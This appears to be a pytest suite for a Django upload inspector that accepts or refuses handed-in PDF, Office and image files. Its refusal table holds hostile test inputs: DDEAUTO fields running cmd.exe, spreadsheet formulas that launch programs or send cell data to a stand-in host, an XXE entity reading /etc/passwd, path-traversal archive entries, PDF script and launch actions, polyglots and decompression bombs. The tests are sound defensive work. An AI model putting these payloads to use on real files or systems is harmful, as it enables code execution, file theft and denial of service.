"""Files that people hand in: told by their content; what is broken, doubled, locked or alive is refused."""

import resource
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from decimal import Decimal
from io import BytesIO

import pikepdf
import pytest
from django import forms
from django.core.exceptions import RequestDataTooBig
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.test import RequestFactory
from django.test.client import BOUNDARY, MULTIPART_CONTENT
from django.utils.datastructures import MultiValueDict
from pikepdf import Array, Dictionary, Name
from PIL import Image

from invoicing.einvoice import ubl_invoice
from invoicing.pdf import invoice_pdf
from office.exports import xlsx_file
from office.forms import UploadField, said_of_read
from office.uploads import LARGEST, Kind, Upload, UploadRefused, images, inspect, inspector, refuse_size
from office.uploads.handler import InMemoryUpToTheLimit
from tests.einvoices import INVOICE
from tests.office import files

WHOLE = {
    Kind.PDF: files.pdf(),
    Kind.DOCX: files.office(),
    Kind.XLSX: files.office(files.XLSX_MAIN),
    Kind.JPEG: files.image("JPEG"),
    Kind.PNG: files.image("PNG"),
}


def test_a_pdf_with_packed_objects_is_taken() -> None:
    assert inspect(files.pdf_of_packed_objects(b"<</A [1 2]>>")).kind is Kind.PDF


def test_a_pdf_may_hold_links_and_say_where_it_opens() -> None:
    assert inspect(files.pdf_with_action_on_page("URI")).kind is Kind.PDF
    assert inspect(files.pdf(OpenAction=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))).kind is Kind.PDF
    page_of_its_own = Dictionary(Annots=Array([Dictionary(Subtype=Name.Link, A=VISIT, F=4)]))
    assert inspect(files.pdf(OpenAction=Array([page_of_its_own, Name.Fit]))).kind is Kind.PDF


def test_all_kinds_are_told_by_their_content() -> None:
    assert [inspector.inspect(WHOLE[kind]) for kind in Kind] == [kind.value for kind in Kind]


@pytest.mark.parametrize("kind", [Kind.PDF, *(pytest.param(kind, marks=pytest.mark.soak) for kind in list(Kind)[1:])])
def test_a_whole_file_is_told_by_its_content(kind: Kind) -> None:
    upload = inspect(WHOLE[kind])

    assert upload.kind is kind
    assert upload.content == WHOLE[kind]
    assert len(upload.sha256) == 64


@pytest.mark.parametrize(
    "title", ["Statusrapport & processbeskrivning 2026", "../../etc/passwd", "報告", "x" * 500, "___"]
)
def test_the_name_is_ours_and_safe(title: str) -> None:
    name = Upload(Kind.PNG, WHOLE[Kind.PNG]).name(title)

    assert name.endswith(".png")
    assert len(name) <= 100
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")
    assert name.count(".") == 1
    assert not name.startswith("-")


def test_a_link_in_a_word_document_may_lead_out() -> None:
    assert inspector.inspect(files.office(relations=files.relation("hyperlink", "https://example.se/"))) == "docx"


def zip_tail() -> bytes:
    return files.office()


def image_with(tail: bytes) -> bytes:
    return files.image("JPEG") + tail


def png_of(width: int, height: int) -> bytes:
    """A picture that says it is large and holds next to nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 10)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in chunks
    )


def stored_pdf_in_office() -> bytes:
    """An archive whose first part, not compressed, is a PDF."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("a", files.pdf())
        archive.writestr("[Content_Types].xml", "x")
    return out.getvalue()


def with_external_entity() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", '<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><t>&x;</t>')
    return out.getvalue()


def encrypted_zip() -> bytes:
    content = bytearray(files.office())
    central = content.rindex(b"PK\x01\x02")
    content[central + 8] |= 1
    return bytes(content)


VISIT = Dictionary(S=Name.URI, URI="https://ond.example/")

REFUSED: dict[str, tuple[bytes | Callable[[], bytes], str]] = {  # what takes time to make is made when it is needed
    "empty": (b"", "tom"),
    "too large": (b"%PDF-1.7" + b" " * LARGEST, "Högst 10 MB"),
    "a program": (b"MZ\x90\x00" + b"\0" * 99, "Spara den som PDF"),
    "a web page": (b"<html><script>alert(1)</script>", "Spara den som PDF"),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 999, "äldre Office"),
    "PDF cut off": (files.pdf()[:-200], "inte hel"),
    "PDF with a broken table": (files.pdf().replace(b"startxref\n", b"startxref\n9"), "skadad"),
    "PDF by name only": (b"%PDF-1.7\n%%EOF", "skadad"),
    "PDF without pages": (files.pdf().replace(b"/Count 1", b"/Count 0").replace(b"/Kids [", b"/Kadd ["), ""),
    "PDF locked": (files.pdf_locked(user="hemligt"), "låst"),
    "PDF locked for its owner only": (files.pdf_locked(user=""), "låst"),
    "PDF with script at opening": (files.pdf(OpenAction=files.action("JavaScript")), "program, skript"),
    "PDF with script by name": (
        files.pdf(Names=Dictionary(JavaScript=Dictionary(Names=["a", "b"]))),
        "program, skript",
    ),
    "PDF that starts a program": (files.pdf(OpenAction=files.action("Launch")), "program, skript"),
    "PDF with a link that starts a program": (files.pdf_with_action_on_page("Launch"), "program, skript"),
    "PDF with a link that sends data": (files.pdf_with_action_on_page("SubmitForm"), "program, skript"),
    "PDF with XFA": (files.pdf(AcroForm=Dictionary(XFA="x")), "program, skript"),
    "PDF with media": (files.pdf(Any=Dictionary(Subtype=Name.RichMedia)), "program, skript"),
    "PDF with script in disguise": (files.pdf_of_packed_objects(b"<</S /#4aavaScript>>"), "program, skript"),
    "PDF with an attachment": (files.pdf_with_attachment(), "bär på andra filer"),
    "PDF with a file in a note": (files.pdf(Any=Dictionary(Type=Name.Filespec, EF=Dictionary())), "bär på andra filer"),
    "PDF that opens a share": (
        files.pdf(OpenAction=Dictionary(S=Name.GoToR, F=r"\\evil\share", D=Array([0, Name.Fit]))),
        "hämtar något utifrån",
    ),
    "PDF with a link to a share": (files.pdf_with_action_on_page("GoToR"), "hämtar något utifrån"),
    "PDF with a link into an attachment": (files.pdf_with_action_on_page("GoToE"), "hämtar något utifrån"),
    "PDF that visits a page at opening": (files.pdf(OpenAction=VISIT), "hämtar något utifrån"),
    "PDF that visits a page after something else": (
        files.pdf(OpenAction=Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([VISIT]))),
        "hämtar något utifrån",
    ),
    "PDF that visits a page at closing": (files.pdf(AA=Dictionary(WC=VISIT)), "hämtar något utifrån"),
    "PDF with a picture from elsewhere": (
        files.pdf_with_stream(Type=Name.XObject, Subtype=Name.Image, F="//evil/share/x.png"),
        "hämtar något utifrån",
    ),
    "PDF with a page of another file": (
        files.pdf_with_stream(Type=Name.XObject, Subtype=Name.Form, Ref=Dictionary(F="x.pdf", Page=0)),
        "hämtar något utifrån",
    ),
    "PDF with endless brackets": (lambda: files.pdf_of_packed_objects(b"[" * 1_000_000), "skadad"),
    "PDF bomb in one stream": (lambda: files.pdf_of_packed_objects(b"[" + b"0 " * 40_000_000 + b"]"), "skadad"),
    "PDF and zip": (files.pdf() + zip_tail(), "två slags"),
    "PDF with something after its end": (files.pdf() + b"<script>", "inte hel"),
    "picture and zip": (image_with(zip_tail()), "två slags"),
    "zip and PDF": (stored_pdf_in_office(), "två slags"),
    "something before the zip": (b"PK\x03\x04" + b"x" * 60 + zip_tail(), "skadad"),
    "zip cut off": (files.office()[:-30], "skadad"),
    "any zip": (files.office("<Default/>"), "varken"),
    "both kinds": (files.office(files.DOCX_MAIN + files.XLSX_MAIN), "varken"),
    "macros by type": (files.office(files.MACRO_MAIN), "makron"),
    "macros by part": (files.office(parts={"word/vbaProject.bin": b"x"}), "makron"),
    "a program inside": (files.office(parts={"word/embeddings/oleObject1.bin": b"x"}), "inbäddade"),
    "ActiveX": (files.office(parts={"word/activeX/activeX1.xml": b"x"}), "inbäddade"),
    "workbook that reads others": (
        files.office(files.XLSX_MAIN, parts={"xl/externalLinks/externalLink1.xml": b"x"}),
        "länkar till andra filer",
    ),
    "template from elsewhere": (
        files.office(relations=files.relation("attachedTemplate", "https://ond.example/x.dotm")),
        "annan plats",
    ),
    "part that climbs": (files.office(parts={"../../etc/cron.d/x": b"x"}), "otillåtna namn"),
    "part from the root": (files.office(parts={"/etc/passwd": b"x"}), "otillåtna namn"),
    "part of Windows": (files.office(parts={"..\\x": b"x"}), "otillåtna namn"),
    "locked parts": (encrypted_zip(), "låst"),
    "entity in a part": (with_external_entity(), "skadad"),
    "zip bomb": (lambda: files.office(parts={"word/media/bomb.bin": bytes(250_000_000)}), "200 MB"),
    "picture cut off": (files.image("JPEG", (99, 99))[:-150], "skadad"),
    "picture by name only": (b"\xff\xd8\xff\xe0" + b"\0" * 99, "skadad"),
    "PNG without its end": (files.image("PNG")[:-4], "skadad"),
    "PNG with something after its end": (files.image("PNG") + b"<script>", "skadad"),
    "PNG with a broken sum": (files.image("PNG", (99, 99)).replace(b"IDAT", b"IDAS", 1), "skadad"),
    "picture bomb": (png_of(60_000, 60_000), ""),
    "large picture": (png_of(9_000, 9_000), "60 miljoner"),
}


DOCX, XLSX = files.DOCX_MAIN, files.XLSX_MAIN
MS, SHEET = "application/vnd.ms-excel.", "application/vnd.openxmlformats-officedocument.spreadsheetml."


def words(*runs: str) -> bytes:
    return files.office(parts={"word/document.xml": files.document(*runs)})


def cell(formula: str) -> bytes:
    return files.office(XLSX, parts={"xl/worksheets/sheet1.xml": files.sheet(formula)})


def with_part(path: str, kind: str, main: str = XLSX) -> bytes:
    return files.office(main + files.part(path, kind), parts={path: b"<x/>"})


def png_that_ends_twice() -> bytes:
    return files.image("PNG") + b"<script>" + files.image("PNG")[-12:]


def pdf_that_ends_twice() -> bytes:
    whole = files.pdf()
    return whole + b"<script>\n" + whole[whole.rindex(b"startxref") :]


REFUSED |= {
    "a web query": (with_part("xl/connections.xml", f"{SHEET}connections+xml"), "koppling till data"),
    "a table that asks the web": (with_part("xl/queryTables/q1.xml", f"{SHEET}queryTable+xml"), "koppling till data"),
    "a relation to a web query": (files.office(XLSX, relations=files.inner("connections", "x.xml")), "koppling till"),
    "a relation to another book": (files.office(XLSX, relations=files.inner("externalLink", "x.xml")), "koppling till"),
    "a sheet of macros of Excel 4": (with_part("xl/macrosheets/s.xml", f"{MS}macrosheet+xml"), "makron"),
    "the same in large letters": (with_part("xl/x.xml", f"{MS}MacroSheet+XML".upper()), "makron"),
    "a relation to a sheet of macros": (files.office(XLSX, relations=files.inner("xlMacrosheet", "a.xml")), "makron"),
    "a dialogue of Excel 5": (with_part("xl/d.xml", f"{SHEET}dialogsheet+xml"), "dialogsheet"),
    "a document in the document": (
        files.office(parts={"word/document.xml": files.document("<w:altChunk/>")}),
        "altChunk",
    ),
    "a relation to a document in it": (files.office(relations=files.inner("aFChunk", "a.html")), "afchunk"),
    "a web page in it": (with_part("word/a.html", "text/html", DOCX), "inbäddad fil"),
    "a program in it": (with_part("word/embeddings/x.exe", "application/x-msdownload", DOCX), "inbäddad fil"),
    "a program of no type": (files.office(parts={"word/media/x.exe": b"MZ"}), "x.exe"),
    "a book in it": (with_part("word/embeddings/x.xlsx", f"{SHEET}sheet", DOCX), "inbäddad fil"),
    "a relation to a program": (files.office(relations=files.inner("package", "x.bin")), "package"),
    "a DDE field": (words(files.field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;")), "DDEAUTO"),
    "a DDE field in pieces": (words(files.field(" D", "DE", "AUTO", " cmd x")), "DDEAUTO"),
    "a DDE field in small letters": (words(files.field("dde cmd x")), "DDE"),
    "a DDE field of one element": (words('<w:fldSimple w:instr="DDE cmd x"/>'), "DDE"),
    "a DDE field without an end": (words("<w:instrText>DDEAUTO cmd</w:instrText>"), "DDEAUTO"),
    "a DDE field within another": (words(files.field("IF ", files.field("DDE cmd x"), " = 1")), "DDE"),
    "a field that is put together": (words(files.field(files.field("QUOTE 68 68 69"), " cmd x")), "QUOTE"),
    "a DDE field in a footer": (
        files.office(parts={"word/footer1.xml": files.document(files.field("DDEAUTO cmd x"))}),
        "DDEAUTO",
    ),
    "a picture from the web in a field": (words(files.field("INCLUDEPICTURE https://ond.example/x.png")), "INCLUDEP"),
    "a text from a share in a field": (words(files.field("INCLUDETEXT //ond/x.docx")), "INCLUDETEXT"),
    "a cell that starts a program": (cell("cmd|'/C calc'!A0"), "startar ett program"),
    "a cell that starts a program in quotes": (cell("'cmd'|'/C calc'!A0"), "startar ett program"),
    "a cell that asks the web": (cell("WEBSERVICE(&quot;https://ond.example/&quot;&amp;A1)"), "WEBSERVICE"),
    "a cell that asks in coded letters": (cell("_xlfn.&#87;EBSERVICE (A1)"), "WEBSERVICE"),
    "a cell with a picture from the web": (cell("_xlfn.IMAGE(&quot;https://ond.example/x.png&quot;)"), "IMAGE"),
    "a name that starts a program": (
        files.office(XLSX, parts={"xl/workbook.xml": b"<w><definedName>cmd|'/C calc'!A0</definedName></w>"}),
        "startar ett program",
    ),
    "a link to a share": (
        files.office(relations=files.relation("hyperlink", "file://ond/share/x")),
        "länk till en fil",
    ),
    "a link to a share as Windows writes it": (
        files.office(relations=files.relation("hyperlink", r"\\ond\share\x.exe")),
        "länk till en fil",
    ),
    "a link that is a script": (
        files.office(relations=files.relation("hyperlink", "javascript:x")),
        "länk till en fil",
    ),
    "a picture from the web": (
        files.office(relations=files.relation("image", "https://ond.example/x.png")),
        "annan plats",
    ),
    "PNG with another end after its end": (png_that_ends_twice(), "efter dess slut"),
    "PDF with another end after its end": (pdf_that_ends_twice(), "efter sitt slut"),
}


def refusal_of(what: str, look_through: Callable[[bytes], object]) -> str:
    content, says = REFUSED[what]

    with pytest.raises(UploadRefused) as refusal:
        look_through(content() if callable(content) else content)

    assert says in str(refusal.value)
    return str(refusal.value)


def in_this_process(content: bytes) -> None:
    """What `inspect` does, but for the process of its own."""
    refuse_size(len(content))
    inspector.inspect(content)


@pytest.mark.parametrize("what", [what for what, (content, _) in REFUSED.items() if not callable(content)])
def test_what_is_refused_says_why(what: str) -> None:
    assert refusal_of(what, in_this_process).endswith(".")


def test_a_hybrid_invoice_is_taken_where_an_invoice_is_asked_for_and_nowhere_else() -> None:
    for content in (files.pdf_hybrid(), invoice_pdf(INVOICE, ubl_invoice(INVOICE))):
        assert inspect(content, hybrid=True).kind is Kind.PDF
        with pytest.raises(UploadRefused, match="bär på andra filer"):
            inspector.inspect(content)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (files.pdf_with_attachment(), "bär på andra filer"),
        (files.pdf_hybrid(part=""), "bär på andra filer"),
        (files.pdf_hybrid(part="1"), "bär på andra filer"),
        (files.pdf_hybrid(xml=b"MZ"), "bär på andra filer"),
        (files.pdf_hybrid(xml=b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'), "bär på andra filer"),
        (files.pdf_hybrid(more=b"<Invoice/>"), "bär på andra filer"),
        (files.pdf_hybrid(action="JavaScript"), "kan köra program"),
        (files.pdf_with_action_on_page("GoToE"), "hämtar något utifrån"),
    ],
)
def test_a_pdf_that_carries_anything_else_is_no_hybrid_invoice(content: bytes, why: str) -> None:
    with pytest.raises(UploadRefused, match=why):
        inspector.inspect(content, hybrid=True)


def test_a_bomb_is_refused_by_a_process_of_its_own() -> None:
    """One of them here; all in the soak."""
    bomb = next(what for what, (content, _) in REFUSED.items() if callable(content))
    assert refusal_of(bomb, inspect).endswith(".")


@pytest.mark.soak
@pytest.mark.parametrize("what", list(REFUSED))
def test_a_process_of_its_own_says_why(what: str) -> None:
    assert refusal_of(what, inspect).endswith(".")


def test_what_brings_the_reader_down_is_a_broken_file(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("office.uploads._SECONDS", 0.01)

    with pytest.raises(UploadRefused, match="skadad eller går inte att läsa"):
        inspect(WHOLE[Kind.PDF])


@pytest.mark.skipif(sys.platform != "linux", reason="no limit of memory for one process")
@pytest.mark.soak
def test_memory_stays_bounded_whatever_a_file_unpacks_to() -> None:
    bomb = files.pdf_of_packed_objects(b"[" + b"[0]" * 150_000 + b"]", how_many=800)  # would take 40 GB

    with pytest.raises(UploadRefused, match="skadad eller går inte att läsa"):
        inspect(bomb)

    assert len(bomb) < 500_000
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss < inspector.MEMORY // 1000


@pytest.mark.parametrize(
    "content",
    [
        words(files.field(" PAGE "), files.field("NUM", "PAGES"), files.field("TOC \\o"), files.field("=A1*2")),
        words(
            files.field("IF ", files.field("MERGEFIELD x"), " = 1"), '<w:fldSimple w:instr=" date "/>', files.field()
        ),
        cell("SUM(A1:A9)*1.03"),
        cell("&quot;a|b&quot;&amp;'Blad|2'!A1"),
        files.office(relations=files.relation("hyperlink", "mailto:anna@example.se")),
        files.office(
            DOCX + files.part("docMetadata/LabelInfo.xml", "application/vnd.ms-office.classificationlabels+xml"),
            parts={"docMetadata/LabelInfo.xml": b"<x/>"},
        ),
        files.office(
            '<Default Extension="PNG" ContentType="image/png"/>' + DOCX, parts={"word/media/image1.png": b"x"}
        ),
        xlsx_file(["Nummer", "Belopp"], [["0017", Decimal("617000.50")], ["=1+1", None]]),
    ],
)
def test_what_people_write_in_word_and_excel_is_taken(content: bytes) -> None:
    assert inspector.inspect(content) in ("docx", "xlsx")


def test_a_pdf_that_was_signed_or_added_to_is_taken() -> None:
    """Each version begins with objects of its own and ends in a table of its own."""
    whole = files.pdf()
    start, place = whole[whole.rindex(b"startxref") :].split()[1], len(whole)
    added = b"9 0 obj\n<< /A 1 >>\nendobj\n"
    table = f"xref\n9 1\n{place:010} 00000 n \ntrailer\n<< /Size 10 /Root 1 0 R /Prev {start.decode()} >>\n"
    content = whole + added + table.encode() + f"startxref\n{place + len(added)}\n%%EOF\n".encode()
    assert inspector.inspect(content) == "pdf"


def test_a_pdf_made_for_the_web_is_taken() -> None:
    made, out = pikepdf.new(), BytesIO()
    made.add_blank_page()
    made.save(out, linearize=True)
    assert inspector.inspect(out.getvalue()) == "pdf"
    with pytest.raises(UploadRefused, match="PDF-filen är skadad"):
        inspector.inspect(out.getvalue() + b"<script>\nstartxref\n0\n%%EOF\n")


TOLD = "Uppgifter i bilden om var, när och med vad den togs är borttagna."
AFTER = "Det som följde efter bildens slut är borttaget."


@pytest.mark.parametrize("orientation", [1, 3, 6, 8])
def test_a_photograph_is_kept_without_where_it_was_taken(orientation: int) -> None:
    taken = files.photograph(orientation=orientation)
    kept, said = images.clean_jpeg(taken)

    assert said == [TOLD]
    assert not any(word in kept for word in (b"Kameran", b"59.27"))
    with Image.open(BytesIO(kept)) as after, Image.open(BytesIO(taken)) as before:
        assert dict(after.getexif()) == ({} if orientation == 1 else {0x0112: orientation})
        assert not after.getexif().get_ifd(0x8825)
        assert (after.size, after.tobytes()) == (before.size, before.tobytes())
    assert images.clean_jpeg(kept) == (kept, [])


def test_a_picture_of_the_web_is_kept_without_its_words() -> None:
    taken = files.photograph("PNG")
    kept = inspect(taken)

    assert kept.said == (TOLD,)
    assert b"eXIf" in taken
    assert b"eXIf" not in kept.content
    with Image.open(BytesIO(kept.content)) as after, Image.open(BytesIO(taken)) as before:
        assert after.tobytes() == before.tobytes()


@pytest.mark.parametrize("tail", [b"<script>", b"\xff\xd8\xff\xe0 another", bytes(9) + b"x"])
def test_what_follows_the_end_of_a_photograph_is_cut_and_said(tail: bytes) -> None:
    whole = files.image("JPEG")
    assert images.clean_jpeg(whole + tail) == (whole, [AFTER])


def test_both_are_said_of_one_file() -> None:
    assert inspect(files.photograph() + b"<script>").said == (TOLD, AFTER)


def test_a_photograph_in_several_passes_is_kept_whole() -> None:
    out = BytesIO()
    Image.effect_noise((64, 64), 90).save(out, "JPEG", progressive=True, quality=95, restart_marker_rows=1)
    assert images.clean_jpeg(out.getvalue()) == (out.getvalue(), [])


class HandIn(forms.Form):
    file = UploadField()


def test_what_was_taken_out_of_a_picture_is_said_on_the_page() -> None:
    taken = SimpleUploadedFile("IMG_0001.JPG", files.photograph(), "image/jpeg")
    form = HandIn({}, MultiValueDict({"file": [taken]}))
    assert form.is_valid()
    assert said_of_read(form) == [TOLD]


def received(content: bytes, *, length: str = "") -> "UploadedFile[bytes]":
    body = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="../../x.pdf"\r\n'
        "Content-Type: application/pdf\r\n\r\n"
    ).encode() + content
    request = RequestFactory().generic("POST", "/", body + f"\r\n--{BOUNDARY}--\r\n".encode(), MULTIPART_CONTENT)
    request.META["CONTENT_LENGTH"] = length or request.META["CONTENT_LENGTH"]
    file = request.FILES["file"]
    assert isinstance(file, UploadedFile)
    assert [type(handler) for handler in request.upload_handlers] == [InMemoryUpToTheLimit]
    return file


def test_a_file_comes_in_whole_under_a_bare_name() -> None:
    file = received(b"x" * 200_000)

    assert (file.size, file.name, file.read()) == (200_000, "x.pdf", b"x" * 200_000)


def test_of_a_file_that_is_too_large_only_the_size_is_kept() -> None:
    file = received(b"x" * (LARGEST + 1))

    assert file.size == LARGEST + 1
    assert file.read() == b""


def test_a_gigabyte_is_refused_before_it_is_read() -> None:
    with pytest.raises(RequestDataTooBig):
        received(b"x", length="1000000000")


def test_a_phones_picture_with_more_pictures_after_it_is_taken() -> None:
    out = BytesIO()
    first, second = (Image.new("RGB", (16, 16), colour) for colour in ("red", "blue"))
    first.save(out, "MPO", save_all=True, append_images=[second])

    assert inspector.inspect(out.getvalue()) == "jpg"
